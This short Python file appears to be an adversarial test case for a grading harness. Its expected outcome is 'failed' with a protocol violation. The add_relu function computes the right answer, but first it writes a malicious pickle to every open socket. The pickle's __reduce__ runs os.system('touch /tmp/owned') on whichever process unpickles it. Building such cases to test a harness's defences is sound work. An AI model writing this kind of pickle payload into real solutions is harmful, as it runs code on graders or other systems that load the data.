"""Pickles on the channel, for whoever loads them.

problem: add_relu
expect: failed
reason: protocol_violation
"""

import os
import socket
import stat

import torch


def everywhere(data):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            continue


import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/owned",))


def add_relu(x, y):
    everywhere(pickle.dumps(Bomb()) * 4)
    return torch.relu(x + y)
